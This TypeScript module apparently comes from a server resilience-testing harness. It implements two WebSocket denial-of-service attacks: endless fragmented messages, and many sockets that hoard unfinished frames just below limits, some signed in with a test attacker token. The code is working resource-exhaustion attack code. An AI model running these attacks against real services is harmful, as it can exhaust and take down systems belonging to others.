import { WebSocket } from 'ws';
import { sleep, within } from '../../sleep.ts';
import { type Attack, keepStriking } from './attack.ts';

const open = async (url: string): Promise<{ socket: WebSocket; closed: Promise<void> }> => {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/ws`, {
    perMessageDeflate: false,
    handshakeTimeout: 8_000,
  });
  socket.on('error', () => socket.terminate());
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  await Promise.race([new Promise<void>((resolve) => socket.once('open', () => resolve())), closed]);
  return { socket, closed };
};

/** A message that never ends, byte by byte: each fragment costs its receiver far more than it is long. */
export const endlessFragments: Attack = {
  name: 'endless fragments',
  start: async ({ urls, strength }) =>
    keepStriking(strength, async (lane, isOn) => {
      const { socket, closed } = await open(urls[lane % urls.length] ?? '');
      while (isOn() && socket.readyState === WebSocket.OPEN) {
        for (let sent = 0; sent < 200; sent++) socket.send('x', { fin: false });
        if (await within(closed, 20)) break;
      }
      socket.terminate();
      await sleep(isOn() ? 1_000 : 0);
    }),
};

const pieces = 60;
const piece = Buffer.alloc(2_000, 'x');

/** Many that each stay just below every limit of one socket and keep what they sent unfinished; every fourth has signed in. */
export const patientHoarders: Attack = {
  name: 'hoarders below the limit',
  start: async ({ urls, strength, attacker }) =>
    keepStriking(strength * 8, async (lane, isOn) => {
      await sleep((lane * 7) % 3_000);
      const { socket, closed } = await open(urls[lane % urls.length] ?? '');
      if (lane % 4 === 0) {
        socket.send(JSON.stringify({ type: 'hello', token: attacker.token }));
        await within(new Promise((resolve) => socket.once('message', resolve)), 5_000);
      }
      for (let sent = 0; sent < pieces && socket.readyState === WebSocket.OPEN; sent++)
        socket.send(piece, { fin: false, binary: false });
      for (let waited = 0; isOn() && waited < 100; waited++) if (await within(closed, 100)) break;
      socket.terminate();
      await sleep(isOn() ? 2_000 : 0);
    }),
};
